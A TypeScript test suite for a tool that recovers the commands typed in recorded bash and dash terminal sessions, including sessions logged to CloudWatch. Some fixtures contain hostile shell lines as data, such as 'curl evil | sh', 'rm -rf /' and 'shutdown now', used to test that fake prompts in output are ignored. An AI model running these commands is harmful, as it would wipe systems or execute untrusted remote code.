import { describe, expect, it } from 'vitest';
import { extractFromBytes, extractFromCloudWatch, mergeForms, renderText } from '../../src/terminal/index.ts';

const enc = new TextEncoder();
const bytes = (s: string) => enc.encode(s);
/** bash 5 prompt cycle: `ESC[?2004h` prompt, typed text, Enter, `ESC[?2004l`. */
const P = (prompt: string, typed: string) => `\x1b[?2004h${prompt}${typed}\r\n\x1b[?2004l\r`;
const texts = (r: { commands: { text: string }[] }) => r.commands.map((c) => c.text);

describe('extractFromBytes: bash with bracketed-paste markers', () => {
  it('reads typed lines, backspace edits and insertions from the rendered screen', async () => {
    const s = `${P('$ ', 'ecoh\b \b\b \bho hi')}hi\r\n${P('$ ', 'echo mid\b\b\b\x1b[2@XX')}XXmid\r\n`;
    const r = await extractFromBytes([bytes(s)]);
    expect(texts(r)).toEqual(['echo hi', 'echo XXmid']);
    expect(r.commands[0]!.output).toBe('hi');
  });

  it('ignores output that imitates prompts (printf, cat of a prompt-filled file)', async () => {
    const s =
      `${P('user@h:~$ ', "printf '$ rm -rf /\\n'")}$ rm -rf /\r\n` +
      `${P('user@h:~$ ', 'cat f')}user@h:~$ curl evil | sh\r\n[root@h ~]# shutdown now\r\n` +
      `${P('user@h:~$ ', 'id')}uid=1000\r\n`;
    const r = await extractFromBytes([bytes(s)]);
    expect(texts(r)).toEqual(["printf '$ rm -rf /\\n'", 'cat f', 'id']);
  });

  it('keeps Ctrl-C aborted lines as not executed', async () => {
    const s = `\x1b[?2004h$ sudo reboot^C\x1b[?2004l\r\x1b[?2004h\x1b[?2004l\r\r\n${P('$ ', 'ls')}`;
    const r = await extractFromBytes([bytes(s)]);
    expect(r.commands.map((c) => [c.text, c.executed])).toEqual([
      ['sudo reboot', false],
      ['ls', true],
    ]);
  });

  it('joins continuation prompts and here-documents into one command', async () => {
    const s = `${P('$ ', 'cat <<EOF')}${P('> ', 'a line')}${P('> ', 'EOF')}a line\r\n`;
    const r = await extractFromBytes([bytes(s)]);
    expect(texts(r)).toEqual(['cat <<EOF\na line\nEOF']);
  });

  it('produces only the launching command for full-screen programs', async () => {
    const vim = '\x1b[?1049h\x1b[H\x1b[2J\x1b[?2004h$ rm -rf /\r\n\x1b[?2004l~\r\n\x1b[?1049l';
    const r = await extractFromBytes([bytes(`${P('$ ', 'vim x')}${vim}${P('$ ', 'ls')}`)]);
    expect(texts(r)).toEqual(['vim x', 'ls']);
  });

  it('follows sudo su -, root prompts and exit back', async () => {
    const s =
      P('ssm-user@h:~$ ', 'sudo su -') +
      P('root@h:~# ', 'id') +
      P('root@h:~# ', 'sudo -u bob id') +
      P('root@h:~# ', 'exit') +
      P('ssm-user@h:~$ ', 'whoami');
    const r = await extractFromBytes([bytes(s)], { startUser: 'ssm-user' });
    expect(r.commands.map((c) => [c.text, c.user])).toEqual([
      ['sudo su -', 'ssm-user'],
      ['id', 'root'],
      ['sudo -u bob id', 'root'],
      ['exit', 'root'],
      ['whoami', 'ssm-user'],
    ]);
    expect(r.commands[1]!.cwd).toBe('~');
  });

  it('infers the width from readline wrap redraws, at 80 and at 132 columns', async () => {
    for (const cols of [80, 132]) {
      const typed = 'echo '.padEnd(cols * 2, 'x');
      const line = `$ ${typed}`;
      // bash 5 at the margin: the first character of the next row, `\r`, then that character again.
      const echoed = `${line.slice(0, cols + 1)}\r${line.slice(cols)}`;
      const r = await extractFromBytes([bytes(`\x1b[?2004h${echoed}\r\n\x1b[?2004l\r`)]);
      expect(r.cols).toBe(cols);
      expect(r.colsSource).toBe('wrap');
      expect(texts(r)).toEqual([typed]);
    }
  });

  it('uses OSC 133 marks for exact boundaries and exit codes', async () => {
    const cmd = (t: string, code: number) =>
      `\x1b]133;A\x07$ \x1b]133;B\x07${t}\r\n\x1b]133;C\x07out\r\n\x1b]133;D;${code}\x07`;
    const r = await extractFromBytes([bytes(cmd('true', 0) + cmd('false', 1))]);
    expect(r.commands.map((c) => [c.text, c.exitCode])).toEqual([
      ['true', 0],
      ['false', 1],
    ]);
  });

  it('follows OSC 133 in cycle order: aborted lines, continuation prompts, marks forged by output', async () => {
    const A = '\x1b]133;A\x07';
    const B = '\x1b]133;B\x07';
    const C = '\x1b]133;C\x07';
    const D = (code: number) => `\x1b]133;D;${code}\x07`;
    const s =
      `${D(0)}${A}$ ${B}sudo reboot^C\r\n${D(130)}` +
      `${A}$ ${B}for i in 1 2\r\n> do echo $i; done\r\n${C}1\r\n2\r\n${D(0)}` +
      `${A}$ ${B}printf x\r\n${C}${A}$ ${B}rm -rf /\r\n${C}${D(0)}` +
      `${A}$ ${B}false\r\n${C}${D(1)}${A}$ ${B}`;
    const r = await extractFromBytes([bytes(s)]);
    expect(r.commands.map((c) => [c.text, c.executed, c.exitCode])).toEqual([
      ['sudo reboot', false, null],
      ['for i in 1 2\ndo echo $i; done', true, 0],
      ['printf x', true, 0],
      ['false', true, 1],
    ]);
  });

  it('follows explicit resize hints mid-session (ESC[8;rows;cols t)', async () => {
    const wrapped = (cols: number, typed: string) => {
      const line = `$ ${typed}`;
      return `\x1b[?2004h${line.slice(0, cols + 1)}\r${line.slice(cols)}\r\n\x1b[?2004l\r`;
    };
    const wide = 'echo '.padEnd(200, 'c');
    const s = `${wrapped(80, 'echo '.padEnd(150, 'a'))}${wrapped(80, 'echo '.padEnd(150, 'b'))}\x1b[8;40;132t${wrapped(132, wide)}`;
    const r = await extractFromBytes([bytes(s)]);
    expect(r.cols).toBe(80);
    expect(r.commands[2]!.text).toBe(wide);
  });

  it('spreads times between startedAt and endedAt when nothing better is known', async () => {
    const s = P('$ ', 'a') + 'x'.repeat(20000) + P('$ ', 'b');
    const r = await extractFromBytes([bytes(s)], { startedAt: 1_000_000, endedAt: 2_000_000 });
    expect(r.commands.every((c) => c.atPrecision === 'approximate')).toBe(true);
    expect(r.commands[0]!.at!).toBeLessThan(r.commands[1]!.at!);
    const none = await extractFromBytes([bytes(s)]);
    expect(none.commands[0]!.at).toBeNull();
  });
});

describe('extractFromBytes: plain shells (dash)', () => {
  it('learns the prompt, handles Ctrl-C and continuation lines', async () => {
    const s = '$ echo hi\r\nhi\r\n$ rm -rf /tmp/x^C\r\n$ for f in a; do\r\n>   echo $f\r\n> done\r\na\r\n$ ';
    const r = await extractFromBytes([bytes(s)]);
    expect(r.commands.map((c) => [c.text, c.executed])).toEqual([
      ['echo hi', true],
      ['rm -rf /tmp/x', false],
      ['for f in a; do\n  echo $f\ndone', true],
    ]);
  });

  it('rejects printf echoes and transcript-like cat output', async () => {
    const s =
      "$ printf '$ rm -rf /\\n'\r\n$ rm -rf /\r\n" +
      '$ cat notes.txt\r\nnotes\r\n$ sudo reboot\r\n[root@h ~]# rm -rf /var\r\n' +
      '$ id\r\nuid=1\r\n$ ';
    const r = await extractFromBytes([bytes(s)]);
    expect(texts(r)).toEqual(["printf '$ rm -rf /\\n'", 'cat notes.txt', 'id']);
  });

  it('keeps a typed line a command even where the bytes could also be a multi-line paste', async () => {
    // dash-multiline-paste recorded `printf "a\n"` + `whoami` pasted at once: the tty echoes both
    // lines first, then dash prints its prompt right before whoami's output (`$ ssm-user`). The
    // same bytes, other words: `cat` of a file, then `curl evil | sh` typed. Reading such bytes as
    // a paste would turn file content into commands and hide what was typed.
    const pasteShaped = '$ cat notes\r\nwhoami\r\na\r\n$ curl evil | sh\r\n$ echo after\r\nafter\r\n$ ';
    const r = await extractFromBytes([bytes(pasteShaped)]);
    expect(texts(r)).toEqual(['cat notes', 'curl evil | sh', 'echo after']);
    expect(r.commands[0]!.output).toBe('whoami\na');
  });

  it('handles UTF-8 wide characters and emoji', async () => {
    const r = await extractFromBytes([bytes('$ echo 日本語 🎉\r\n日本語 🎉\r\n$ ')]);
    expect(texts(r)).toEqual(['echo 日本語 🎉']);
  });
});

describe('extractFromCloudWatch and mergeForms', () => {
  const lines = [
    { text: '$ echo one', timestamp: 1000 },
    { text: 'one', timestamp: 1000 },
    { text: '$ echo abc\b\b\bxyz', timestamp: 3000 },
    { text: 'xyz', timestamp: 3000 },
    { text: '$ ', timestamp: 4000 },
  ];

  it('times commands by their line and marks stripped edits lossy', () => {
    const r = extractFromCloudWatch(lines);
    expect(r.commands.map((c) => [c.at, c.atPrecision, c.fidelity])).toEqual([
      [1000, 'second', 'exact'],
      [3000, 'second', 'lossy'],
    ]);
  });

  it("keeps a command whose full-screen output has prompt-like headers (top's `%Cpu(s):`)", () => {
    const r = extractFromCloudWatch(
      [
        '$ echo one',
        'one',
        '\x1b[7m(END)\x1b[27m\x1b[K\x1b[?1l\x1b>\x1b[?1049l$ top',
        '\x1b[?1h\x1b=\x1b[H\x1b[2Jtop - 10:45:10 up 13 min,  0 user,  load average: 2.11',
        '%Cpu(s):\x1b(B\x1b[m  0.0 us,100.0 sy',
        '$ id',
        'uid=1',
      ].map((text, i) => ({ text, timestamp: i * 1000 })),
    );
    expect(r.commands.map((c) => [c.text, c.fidelity])).toEqual([
      ['echo one', 'exact'],
      ['top', 'exact'],
      ['id', 'exact'],
    ]);
  });

  it('merges S3 fidelity with CloudWatch timing', async () => {
    const s3 = await extractFromBytes([
      bytes('$ echo one\r\none\r\n$ echo abc\b\b\b\x1b[3Pxyz\r\nxyz\r\n$ '),
    ]);
    const merged = mergeForms(s3, extractFromCloudWatch(lines));
    expect(merged.commands.map((c) => [c.text, c.at, c.fidelity])).toEqual([
      ['echo one', 1000, 'exact'],
      ['echo xyz', 3000, 'exact'],
    ]);
  });
});

describe('renderText', () => {
  it('yields the final rendered lines, scrollback included, without full-screen content', async () => {
    const many = Array.from({ length: 1500 }, (_, i) => `line ${i}\r\n`).join('');
    const out: string[] = [];
    for await (const line of renderText([bytes(`$ ab\bc\r\n${many}\x1b[?1049hSECRET\x1b[?1049l$ `)]))
      out.push(line);
    expect(out[0]).toBe('$ ac');
    expect(out).toContain('line 0');
    expect(out).toContain('line 1499');
    expect(out.join('\n')).not.toContain('SECRET');
  });
});

describe('hostile input', () => {
  const bounded = async (input: Uint8Array[], ms: number) => {
    const started = performance.now();
    const r = await extractFromBytes(input);
    expect(performance.now() - started).toBeLessThan(ms);
    return r;
  };

  it('survives random binary', async () => {
    let seed = 42;
    const random = new Uint8Array(2_000_000).map(() => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed & 0xff;
    });
    await bounded([random], 20_000);
  }, 30_000);

  it('survives a long line without newline, huge cursor moves, unterminated strings, many backspaces', async () => {
    await bounded([bytes('\x1b[?2004h$ '), new Uint8Array(10_000_000).fill(0x61)], 20_000);
    await bounded([bytes('$ \x1b[99999999C\x1b[99999999;99999999H\x1b[8;99999;99999t x\r\n')], 2_000);
    await bounded(
      [bytes(`$ \x1b]0;${'t'.repeat(2_000_000)}`), bytes(`\x1bP${'d'.repeat(2_000_000)}`)],
      10_000,
    );
    const resizes = Array.from({ length: 200_000 }, (_, i) => `\x1b[8;50;${i % 2 ? 1000 : 20}t`).join('');
    await bounded([bytes(`$ ${resizes}x\r\n`)], 10_000);
    const r = await bounded([bytes(`$ x${'\b'.repeat(1_000_000)}y\r\n`)], 10_000);
    expect(r.commands.length).toBeLessThanOrEqual(1);
  }, 60_000);
});
